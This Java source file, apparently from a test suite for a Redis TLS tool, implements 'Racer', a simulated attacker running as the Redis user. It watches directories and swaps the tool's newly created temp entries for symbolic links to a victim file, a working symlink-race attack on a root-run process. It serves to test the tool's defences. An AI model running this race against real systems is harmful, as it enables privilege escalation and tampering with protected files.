package dev.redistls.testing;

import java.io.IOException;
import java.nio.file.ClosedWatchServiceException;
import java.nio.file.FileSystems;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.StandardWatchEventKinds;
import java.nio.file.WatchEvent;
import java.nio.file.WatchKey;
import java.nio.file.WatchService;
import java.util.concurrent.atomic.AtomicLong;

/**
 * An attacker who became the Redis user, run as its own process under that account: it watches directories with
 * inotify and, the moment the tool creates an entry there, moves it aside and puts a symbolic link to a victim file in
 * its place, hoping the tool (running as root) follows it. Prints how many entries it swapped when its stop file
 * appears.
 * <p>
 * Usage: {@code Racer VICTIM STOPFILE DIR...}
 */
public final class Racer {
    private Racer() {
    }

    public static void main(String[] args) throws Exception {
        Path victim = Path.of(args[0]);
        Path stop = Path.of(args[1]);
        AtomicLong swapped = new AtomicLong();
        try (WatchService watch = FileSystems.getDefault().newWatchService()) {
            for (int i = 2; i < args.length; i++) {
                Path dir = Path.of(args[i]);
                if (Files.isDirectory(dir)) {
                    try {
                        dir.register(watch, StandardWatchEventKinds.ENTRY_CREATE);
                    } catch (IOException notAllowed) {
                        // a directory this account cannot read: nothing to race in there
                    }
                }
            }
            System.out.println("watching");
            System.out.flush();
            while (!Files.exists(stop)) {
                WatchKey key = watch.poll(50, java.util.concurrent.TimeUnit.MILLISECONDS);
                if (key == null) {
                    continue;
                }
                Path dir = (Path) key.watchable();
                for (WatchEvent<?> e : key.pollEvents()) {
                    if (e.context() instanceof Path name && isTheTools(name.toString())) {
                        swap(dir.resolve(name), victim, swapped);
                    }
                }
                key.reset();
            }
        } catch (ClosedWatchServiceException ignored) {
            // stopping
        }
        System.out.println("swapped " + swapped.get());
    }

    private static boolean isTheTools(String name) {
        return name.startsWith(".") && (name.contains("redis-tls") || name.endsWith(".tmp")) && !name.contains(".moved-");
    }

    private static void swap(Path entry, Path victim, AtomicLong swapped) {
        try {
            if (Files.isSymbolicLink(entry)) {
                return;
            }
            Files.move(entry, entry.resolveSibling(entry.getFileName() + ".moved-" + System.nanoTime()), LinkOption.NOFOLLOW_LINKS);
            Files.createSymbolicLink(entry, victim);
            swapped.incrementAndGet();
        } catch (IOException | RuntimeException lost) {
            // lost the race this time
        }
    }
}
